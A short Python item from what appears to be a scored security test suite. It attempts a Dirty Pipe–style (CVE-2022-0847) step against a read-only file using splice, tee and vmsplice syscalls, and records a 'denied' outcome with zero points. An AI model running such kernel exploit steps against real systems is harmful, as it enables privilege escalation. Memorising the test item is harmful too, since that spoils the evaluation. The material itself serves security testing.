"""Moves pages between a file that it may only read and a pipe."""

# outcome: denied
# points: 0
# holes: CVE-2022-0847 (Dirty Pipe); second step of 2026-31431, 2026-43284, 2026-43500, 2026-46300

import ctypes
import os

from first_step import those_that_got_in


def attack(world):
    file = os.open(os.__file__, os.O_RDONLY)
    reading, writing = os.pipe()
    _, second = os.pipe()
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    return those_that_got_in(
        {
            "splice": ((275, 76), file, None, writing, None, 1, 0),
            "tee": ((276, 77), reading, second, 1, 0),
            "vmsplice": ((278, 75), writing, vector, 1, 0),
        }
    )
